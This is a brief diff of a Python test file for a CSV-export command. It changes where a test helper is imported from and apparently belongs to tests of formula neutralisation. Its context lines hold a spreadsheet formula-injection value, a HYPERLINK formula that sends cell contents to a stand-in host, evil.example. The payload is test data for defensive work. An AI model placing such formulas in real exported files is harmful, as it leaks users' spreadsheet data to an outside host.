@@ -18,9 +18,9 @@ from click.testing import CliRunner
 
 from github_app.cli.evidence_commands import evidence
 from github_app.evidence.csvsafe import neutralise, restore
-from github_app.evidence.encode import record_from_csv
 from github_app.ledger import NewEntry
 from tests.console.conftest import sign_in
+from tests.support.evidence_reading import record_from_csv
 
 HOSTILE_SESSION = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
 HOSTILE = {
